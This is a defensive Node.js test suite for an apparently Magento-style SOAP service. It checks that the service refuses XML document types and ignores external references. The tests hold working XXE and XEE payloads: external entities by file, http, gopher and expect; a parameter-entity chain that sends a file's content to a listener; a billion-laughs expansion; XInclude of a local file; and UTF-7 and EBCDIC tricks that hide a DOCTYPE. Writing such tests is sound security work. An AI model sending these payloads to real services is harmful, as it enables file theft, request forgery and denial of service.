/**
 * No document makes the service access anything outside of it (OWASP XXE and XML Security). All of these documents
 * point to a listener that must never be called; no answer may have the content of a file.
 */

import assert from 'node:assert/strict';
import { once } from 'node:events';
import { rmSync, writeFileSync } from 'node:fs';
import { type AddressInfo, connect, createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import iconv from 'iconv-lite';
import { envelope, list, paths, type Style, send, serveFile, styles } from '../wire/soap/wire.ts';

const wire = await serveFile();
const session = await wire.login();
const quoteId = await wire.cart(session);

let calls = 0;
const listener = createServer((socket) => {
  calls += 1;
  socket.end('HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n');
});
listener.listen(0, '127.0.0.1');
await once(listener, 'listening');
after(() => listener.close());
const there = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;

const secret = 'the-content-of-a-file';
const file = join(tmpdir(), `cartwright-secret-${process.pid}`);
writeFileSync(file, secret);
after(() => rmSync(file));

const whole = (style: Style, version: '1.1' | '1.2' = '1.1') => envelope(list(style, session, quoteId), version);
const prolog = (text: string, content: string) => text.replace('?>', `?>${content}`);

const doctypes: Readonly<Record<string, string>> = {
  'an internal subset': '<!DOCTYPE e:Envelope [<!ENTITY a "x">]>',
  'a system identifier': `<!DOCTYPE e:Envelope SYSTEM "${there}/a.dtd">`,
  'a public identifier': `<!DOCTYPE e:Envelope PUBLIC "-//x//y" "${there}/b.dtd">`,
  'an external entity by http': `<!DOCTYPE e:Envelope [<!ENTITY a SYSTEM "${there}/c">]>`,
  'an external entity by file': `<!DOCTYPE e:Envelope [<!ENTITY a SYSTEM "file://${file}">]>`,
  'an external entity without a scheme': `<!DOCTYPE e:Envelope [<!ENTITY a SYSTEM "${file}">]>`,
  'an external entity by other schemes': ['ftp', 'gopher', 'jar:http', 'netdoc', 'php', 'expect', 'data', 'ldap']
    .map((scheme, index) => `<!ENTITY s${index} SYSTEM "${there.replace('http', scheme)}/s">`)
    .join('')
    .replace(/^/, '<!DOCTYPE e:Envelope [')
    .concat(']>'),
  'a parameter entity': `<!DOCTYPE e:Envelope [<!ENTITY % a SYSTEM "${there}/d"> %a;]>`,
  'a parameter entity that sends a file away': `<!DOCTYPE e:Envelope [<!ENTITY % f SYSTEM "file://${file}"><!ENTITY % d "<!ENTITY &#37; s SYSTEM '${there}/?%f;'>">%d;%s;]>`,
  'an unparsed entity with a notation': `<!DOCTYPE e:Envelope [<!NOTATION n SYSTEM "${there}/n"><!ENTITY a SYSTEM "${there}/e" NDATA n>]>`,
  'a default attribute': '<!DOCTYPE e:Envelope [<!ATTLIST e:Envelope x CDATA "y">]>',
  'a conditional section': `<!DOCTYPE e:Envelope [<![INCLUDE[<!ENTITY a SYSTEM "${there}/i">]]>]>`,
  'entities that grow': `<!DOCTYPE e:Envelope [<!ENTITY a0 "ha">${Array.from({ length: 40 }, (_, n) => `<!ENTITY a${n + 1} "${`&a${n};`.repeat(9)}">`).join('')}]>`,
  'one long entity, used often': `<!DOCTYPE e:Envelope [<!ENTITY a "${'x'.repeat(500_000)}">]>`,
  'an entity of itself': '<!DOCTYPE e:Envelope [<!ENTITY a "&a;">]>',
  nothing: '<!DOCTYPE e:Envelope>',
};

describe('a document type is refused before it is read, in every style and version:', () => {
  const fault = {
    code: 'Sender',
    text: 'Detected use of DOCTYPE in XML, disabled to prevent XXE/XEE attacks',
  };
  for (const [what, doctype] of Object.entries(doctypes)) {
    it(what, async () => {
      for (const style of styles) {
        for (const version of ['1.1', '1.2'] as const) {
          const used = whole(style, version).replace('</e:Body>', `${'&a;'.repeat(1000)}</e:Body>`);
          const { answer, body } = await send(wire.url, { path: paths[style], body: prolog(used, doctype) });
          assert.deepEqual(answer.fault, fault, style);
          assert.ok(!body.includes(secret));
        }
      }
    });
  }
  for (const encoding of ['utf-16le', 'utf-16be'] as const) {
    it(`also in ${encoding}, where bytes do not look like one`, async () => {
      const text = prolog(whole('v2').replace('UTF-8', 'UTF-16'), doctypes['an external entity by http'] ?? '');
      const body = iconv.encode(text, encoding, { addBOM: true });
      assert.deepEqual((await send(wire.url, { path: paths.v2, body })).answer.fault, fault);
    });
  }
  it('behind comments, instructions and white space', async () => {
    const body = prolog(whole('v2'), `<!-- a --> <?x y?>\n\t${doctypes['a system identifier']}`);
    assert.deepEqual((await send(wire.url, { path: paths.v2, body })).answer.fault, fault);
  });
  it('not under another case of the word, which is no document type', async () => {
    for (const word of [
      '<!doctype x>',
      '<!DocType x SYSTEM "x">',
      '<! DOCTYPE x>',
      '<!ENTITY a "b">',
      '<!ELEMENT a ANY>',
    ]) {
      const { answer } = await send(wire.url, { path: paths.v2, body: prolog(whole('v2'), word) });
      assert.deepEqual(answer.fault, { code: 'Sender', text: 'Invalid XML' }, word);
    }
  });
});

describe('an encoding that could hide one is not known:', () => {
  for (const [name, body] of [
    ['UTF-7', Buffer.from(`<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-<x/>`)],
    ['EBCDIC', Buffer.from('4c6fa7949340a58599a2899695', 'hex')],
    ['UTF-32', Buffer.concat([Buffer.from([0, 0, 0xfe, 0xff]), Buffer.from('\0\0\0<\0\0\0x')])],
    ['IBM037', Buffer.from(whole('v2').replace('UTF-8', 'IBM037'))],
    ['UTF-16 that is UTF-8', Buffer.from(prolog(whole('v2').replace('UTF-8', 'UTF-16'), '<!DOCTYPE x>'))],
  ] as const) {
    it(name, async () => {
      const { status, answer } = await send(wire.url, { path: paths.v2, body });
      assert.deepEqual([status, answer.fault?.code], [500, 'Sender']);
    });
  }
});

/** References to outside documents without a document type: in the envelope, the header, the body and the arguments. */
const pointers: Readonly<Record<string, (text: string) => string>> = {
  'a style sheet': (text) => prolog(text, `<?xml-stylesheet type="text/xsl" href="${there}/x.xsl"?>`),
  'a model': (text) => prolog(text, `<?xml-model href="${there}/x.rng"?>`),
  'an instruction to load': (text) => prolog(text, `<?import ${there}/x?><?php readfile("${file}")?>`),
  'a schema location': (text) =>
    text.replace(
      '<e:Body',
      `<e:Body xsi:schemaLocation="urn:Magento ${there}/x.xsd" xsi:noNamespaceSchemaLocation="${there}/y.xsd"`,
    ),
  'a namespace with an address': (text) => text.replace('<e:Body', `<e:Body xmlns:n="${there}/ns"`),
  'XInclude beside the call': (text) =>
    text.replace('</e:Body>', `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${there}/i"/></e:Body>`),
  'XInclude of a file as text': (text) =>
    text.replace(
      '</e:Body>',
      `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file://${file}"><xi:fallback/></xi:include></e:Body>`,
    ),
  'a base address': (text) => text.replace('<e:Body', `<e:Body xml:base="${there}/"`),
  'addresses in a header': (text) =>
    text.replace(
      '<e:Body',
      `<e:Header><a:ReplyTo xmlns:a="http://www.w3.org/2005/08/addressing"><a:Address>${there}/reply</a:Address></a:ReplyTo>` +
        `<a:FaultTo xmlns:a="http://www.w3.org/2005/08/addressing"><a:Address>${there}/fault</a:Address></a:FaultTo></e:Header><e:Body`,
    ),
  'a signature to look up': (text) =>
    text.replace(
      '<e:Body',
      `<e:Header><d:Signature xmlns:d="http://www.w3.org/2000/09/xmldsig#"><d:SignedInfo><d:Reference URI="${there}/s"/></d:SignedInfo></d:Signature></e:Header><e:Body`,
    ),
  'an attachment by reference': (text) =>
    text.replace(
      '</e:Body>',
      `<x:Include xmlns:x="http://www.w3.org/2004/08/xop/include" href="${there}/a"/></e:Body>`,
    ),
};

describe('external references are not followed, and the call is answered as without them:', () => {
  for (const [what, change] of Object.entries(pointers)) {
    it(what, async () => {
      for (const style of styles) {
        const plain = await send(wire.url, { path: paths[style], body: whole(style) });
        const { status, body } = await send(wire.url, { path: paths[style], body: change(whole(style)) });
        assert.deepEqual([status, body], [200, plain.body], style);
      }
    });
  }
  it('XInclude as an argument is not a number', async () => {
    for (const style of styles) {
      const included = `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file://${file}"/>`;
      const body = whole(style).replace(`>${quoteId}<`, `>${included}<`);
      const { status, body: said } = await send(wire.url, { path: paths[style], body });
      assert.equal(status, 500, style);
      assert.ok(!said.includes(secret));
    }
  });
  it('a reference to another document is one to nothing', async () => {
    for (const href of [`${there}/x#a`, `file://${file}`, 'cid:part@x', '../x']) {
      const body = whole('v2').replace(`<quoteId>${quoteId}</quoteId>`, `<quoteId href="${href}"/>`);
      const { answer } = await send(wire.url, { path: paths.v2, body });
      assert.deepEqual(answer.fault, { code: 'SOAP-ENV:Client', text: 'Unresolved reference in the message' }, href);
    }
  });
  it('a multipart message is not XML', async () => {
    const body = `--x\r\nContent-Type: text/xml\r\n\r\n${whole('v2')}\r\n--x\r\nContent-Location: ${there}/p\r\n\r\n\r\n--x--`;
    const headers = { 'content-type': 'multipart/related; boundary=x; start-info="text/xml"' };
    const { answer } = await send(wire.url, { path: paths.v2, headers, body });
    assert.deepEqual(answer.fault, { code: 'Sender', text: 'Invalid XML' });
  });
});

describe('afterwards', () => {
  it('the listener for stolen requests works and was never called', async () => {
    assert.equal(calls, 0);
    const socket = connect(Number(new URL(there).port), '127.0.0.1');
    socket.resume();
    await once(socket, 'close');
    assert.equal(calls, 1);
  });
});
